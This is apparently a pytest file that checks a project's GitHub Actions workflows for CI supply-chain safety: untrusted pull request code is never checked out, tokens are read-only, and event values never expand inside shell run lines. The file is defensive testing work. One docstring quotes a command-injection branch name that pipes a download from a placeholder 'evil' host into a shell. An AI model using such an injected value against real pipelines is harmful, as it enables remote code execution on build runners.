"""The workflows run the commands CONTRIBUTING.md's "What CI runs" names, so a contributor's local
`--base auto` check and sign-off check are CI's (issue #9 item 7), and the gate that judges a pull request
is the base's, from a workflow the pull request cannot edit, on the head commit fetched as objects (issue #16
item 1, issues #24 and #25; docs/trust.md). The commands are the gate's action's (issue #33 item 2), which
each trusted job runs from the judging commit's own checkout: its steps are read through it
(tests/trust/workflow.py's `expand`, the step's inputs substituted). How each trusted job starts Python is
tests/trust/. (The schema check of every workflow file is tests/test_workflows.py; the pins are
tests/test_supply_chain.py.)
"""

from __future__ import annotations

from ruamel.yaml import YAML

from ..support.paths import REPO
from ..trust.workflow import applicable, expand

WORKFLOWS = REPO / ".github" / "workflows"
BASE_SHA = "${{ github.event.pull_request.base.sha }}"
HEAD_SHA = "${{ github.event.pull_request.head.sha }}"


def _load(name: str) -> dict:
    return YAML(typ="safe", pure=True).load((WORKFLOWS / name).read_text(encoding="utf-8"))


def _triggers(workflow: dict) -> dict:
    # YAML 1.1 reads a bare `on:` key as true; ruamel's safe loader keeps the string
    return workflow.get("on", workflow.get(True))


GATE = '"$RUNNER_TEMP/gate/bin/exchange"'


def test_the_entries_workflow_runs_the_tests_and_on_a_push_the_gate_in_a_job_of_its_own():
    """On a pull request ci.yml is the pull request's own (read from its merge commit): its tests job decides
    nothing; the gate on a push is a job of its own, on a fresh runner (issue #24 item 2)."""
    workflow = _load("ci.yml")
    assert set(_triggers(workflow)) == {"push", "pull_request"}
    assert workflow["permissions"] == {}
    assert set(workflow["jobs"]) == {"tests", "gate"}
    tests, gate = workflow["jobs"]["tests"], workflow["jobs"]["gate"]
    assert [s["run"] for s in tests["steps"] if "run" in s] == ["bash .ci/run"]
    assert "if" not in tests
    assert gate["if"] == "github.event_name == 'push'" and "needs" not in gate
    assert gate["steps"][-1]["uses"] == "./catalog/.github/actions/gate"
    assert gate["steps"][-1]["with"] == {"job": "push", "catalog": "catalog", "head": "${{ github.sha }}"}
    steps = applicable(expand(gate))
    runs = [s["run"].strip() for s in steps if "run" in s]
    assert runs[-2:] == [f'{GATE} verifier fetch --catalog "$CATALOG"',
                         f'{GATE} check --catalog "$CATALOG" --commit "$COMMIT"']
    assert steps[-1]["env"] == {"CATALOG": "${{ github.workspace }}/catalog", "COMMIT": "${{ github.sha }}",
                                "EXCHANGE_READER_CACHE": "${{ runner.temp }}/exchange-readers"}
    assert not any("--base" in s.get("run", "") for s in steps)


def _job_steps(job: dict) -> tuple[list[dict], list[dict]]:
    steps = applicable(expand(job))
    return [s for s in steps if "uses" in s], [s for s in steps if "run" in s]


def test_attack_pull_request_judges_itself_the_gate_workflow_has_the_boundarys_shape():
    """The shape of issue #16 item 1 and issues #24, #25: pull_request_target (the base's file), a read-only
    token on each job, the base commit checked out without credentials, the gate built from the base
    commit's own files, the pull request's head fetched into the base's clone as objects (never checked
    out), and the base's commands judging the head commit."""
    workflow = _load("gate.yml")
    assert list(_triggers(workflow)) == ["pull_request_target"]
    assert workflow["permissions"] == {}
    assert set(workflow["jobs"]) == {"gate", "sign-off"}
    several = 'several=()\nif [ "$ONE_ENTRY" = false ]; then several=(--several-entries); fi\n'
    commands = {"gate": f'{several}{GATE} check --catalog "$CATALOG" --commit "$HEAD" --base "$BASE" "${{several[@]}}" '
                        '--format markdown >> "$GITHUB_STEP_SUMMARY" || [ "$?" -eq 1 ]',
                "sign-off": f'{GATE} signoff --catalog "$CATALOG" --base "$BASE" --head "$HEAD" --format github'}
    inputs = {"gate": "pull-request", "sign-off": "sign-off"}
    for name, job in workflow["jobs"].items():
        assert job["permissions"] == {"contents": "read"}
        uses, runs = _job_steps(job)
        checkouts = [s for s in uses if s["uses"].startswith("actions/checkout@")]
        assert [c["with"]["path"] for c in checkouts] == ["base"]  # the head is never checked out
        base = checkouts[0]["with"]
        assert base["ref"] == BASE_SHA and base["persist-credentials"] is False and base["fetch-depth"] == 0
        action = job["steps"][-1]
        assert action["uses"] == "./base/.github/actions/gate"  # the base commit's own action, from base/
        assert action["with"] == {"job": inputs[name], "catalog": "base", "base": BASE_SHA, "head": HEAD_SHA}
        install = next(s for s in runs if "pip install" in s["run"])
        assert 'source="$GITHUB_ACTION_PATH/../../.."' in install["run"] and "env" not in install
        fetch = next(s for s in runs if "fetch" in s["run"] and "refs/exchange/head" in s["run"])
        assert fetch["env"]["HEAD"] == HEAD_SHA and "checkout" not in fetch["run"]
        assert all(s.get("working-directory") == "${{ runner.temp }}" for s in runs)
        assert runs[-1]["run"].strip() == commands[name]
        assert {k: v for k, v in runs[-1]["env"].items() if k in ("CATALOG", "BASE", "HEAD")} == {
            "CATALOG": "${{ github.workspace }}/base", "BASE": BASE_SHA, "HEAD": HEAD_SHA}
    gate_runs = _job_steps(workflow["jobs"]["gate"])[1]
    assert gate_runs[-2]["run"].strip() == (f'{several}GITHUB_STEP_SUMMARY= {GATE} check --catalog "$CATALOG" --commit '
                                            '"$HEAD" --base "$BASE" "${several[@]}" --format github')  # the annotations
    assert gate_runs[-1]["if"] == "${{ !cancelled() && 'pull-request' == 'pull-request' }}"  # after a refusal too
    assert gate_runs[-1]["env"]["ONE_ENTRY"] == gate_runs[-2]["env"]["ONE_ENTRY"] == "true"  # one entry by default
    fetch = [s for s in _job_steps(workflow["jobs"]["gate"])[1] if "verifier fetch" in s["run"]]
    assert [s["run"].strip() for s in fetch] == [f'{GATE} verifier fetch --catalog "$CATALOG"']  # the base's pin
    assert fetch[0]["env"]["CATALOG"] == "${{ github.workspace }}/base"


def test_no_other_workflow_runs_on_pull_request_target_with_the_change():
    """thanks.yml also runs on pull_request_target: it checks nothing out and runs none of the change."""
    for path in sorted(WORKFLOWS.glob("*.yml")):
        workflow = _load(path.name)
        if "pull_request_target" not in _triggers(workflow) or path.name == "gate.yml":
            continue
        for job in workflow["jobs"].values():
            assert not any(s.get("uses", "").startswith("actions/checkout@") for s in job["steps"]), path.name
            assert not any("run" in s for s in job["steps"]), path.name


def test_contributing_names_the_same_commands():
    text = (REPO / "CONTRIBUTING.md").read_text(encoding="utf-8")
    section = text[text.index("### What CI runs"):]
    for command in ("exchange check --catalog base --commit <the pull request's head commit> "
                    "--base <the pull request's base commit> --format github",
                    "exchange check --base auto",
                    "exchange signoff --catalog base --base <the pull request's base commit> "
                    "--head <the pull request's head commit> --format github",
                    "exchange signoff --base auto", "bash .ci/run"):
        assert command in section, command


def test_no_expression_is_expanded_inside_a_run_line():
    """Attack: a branch name like `a";curl evil|sh;"` reaching a shell through `${{ … }}` in a run line.
    Every value the workflows take from the event goes through `env:`, quoted in the command."""
    for path in [*(WORKFLOWS / n for n in ("ci.yml", "gate.yml", "release.yml", "publish.yml")),
                 REPO / ".github" / "actions" / "gate" / "action.yml"]:
        name = path.name
        lines = path.read_text(encoding="utf-8").splitlines()
        for i, line in enumerate(lines):
            if not line.strip().startswith("run:"):
                continue
            indent = len(line) - len(line.lstrip())
            block = [line]
            for later in lines[i + 1:]:
                if later.strip() and len(later) - len(later.lstrip()) <= indent:
                    break
                block.append(later)
            assert not any("${{" in b for b in block), f"{name}: {line.strip()}"
